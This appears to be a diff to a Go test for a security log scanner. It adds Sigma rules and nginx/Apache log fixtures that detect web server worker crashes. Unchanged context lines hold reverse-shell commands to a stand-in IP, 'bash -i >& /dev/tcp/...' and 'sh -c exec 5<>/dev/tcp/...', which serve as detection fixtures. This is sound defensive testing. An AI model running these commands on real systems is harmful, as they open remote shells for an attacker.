@@ -357,6 +357,22 @@ detection:
     selection: {verb: create, objectRef.resource: pods, objectRef.subresource: exec}
     condition: selection
 level: high
+---
+title: Web server crashed
+id: 1b0e3c55-0000-4000-8000-000000000006
+logsource: {service: nginx}
+detection:
+    keywords: ['exited on signal 6 (core dumped)', 'exited on signal 11']
+    condition: keywords
+level: medium
+---
+title: Apache child crashed
+id: 1b0e3c55-0000-4000-8000-000000000007
+logsource: {service: apache}
+detection:
+    keywords: ['exit signal Segmentation Fault']
+    condition: keywords
+level: medium
 `), 0o644)
 
 	// bash -i >& /dev/tcp/203.0.113.9/4444 0>&1, as auditd writes it.
@@ -388,6 +404,12 @@ level: high
 	os.WriteFile(filepath.Join(logs, "k8s-audit.jsonl"), []byte(k8s), 0o644)
 	host := `{"UtcTime":"2026-11-20 03:20:00.000","ProcessGuid":"{1c3d-01}","Computer":"app-7","User":"www-data","Image":"/usr/bin/sh","CommandLine":"sh -c exec 5<>/dev/tcp/203.0.113.9/80"}` + "\n"
 	os.WriteFile(filepath.Join(logs, "sysmon.json"), []byte(host), 0o644)
+	os.MkdirAll(filepath.Join(logs, "nginx"), 0o755)
+	os.WriteFile(filepath.Join(logs, "nginx/error.log"), []byte("2026/11/20 03:30:00 [alert] 7#7: worker process 31 exited on signal 6 (core dumped)\n"+
+		"2026/11/20 03:30:01 [notice] 7#7: start worker process 32\n"), 0o644)
+	os.MkdirAll(filepath.Join(logs, "httpd"), 0o755)
+	os.WriteFile(filepath.Join(logs, "httpd/error_log.log"), []byte("[Fri Nov 20 03:31:00.000001 2026] [core:notice] [pid 100:tid 200] AH00052: child pid 4242 exit signal Segmentation fault (11)\n"+
+		"[Fri Nov 20 03:31:05 2026] [mpm_event:notice] [pid 100:tid 200] AH00489: Apache/2.4.62 configured -- resuming normal operations\n"), 0o644)
 
 	out, errOut, code := vigil(t, "", "scan", "--no-builtin", "--sigma", rules, "--format", "json", logs)
 	if code != 0 {
@@ -414,6 +436,8 @@ level: high
 		{"SSH password guessing", "2026-11-20T03:01:07Z", 2, "host=bastion-1"},
 		{"Path traversal", "2026-11-20T03:05:00Z", 1, "source_ip=198.51.100.7"},
 		{"Exec into a pod", "2026-11-20T03:10:00Z", 1, "principal=dev@bank.example"},
+		{"Web server crashed", "2026-11-20T03:30:00Z", 1, ""},
+		{"Apache child crashed", "2026-11-20T03:31:00.000001Z", 1, ""},
 	} {
 		a, ok := byTitle[c.title]
 		if !ok {
@@ -427,10 +451,10 @@ level: high
 			t.Errorf("%q: entities %v, want %s", c.title, a.Entities, c.entity)
 		}
 	}
-	if len(alerts) != 5 {
-		t.Errorf("%d alerts, want 5:\n%s", len(alerts), out)
+	if len(alerts) != 7 {
+		t.Errorf("%d alerts, want 7:\n%s", len(alerts), out)
 	}
-	if !strings.Contains(errOut, "scanned 5 files, 17 events") {
+	if !strings.Contains(errOut, "scanned 7 files, 21 events") {
 		t.Errorf("summary: %s", errOut)
 	}
 }
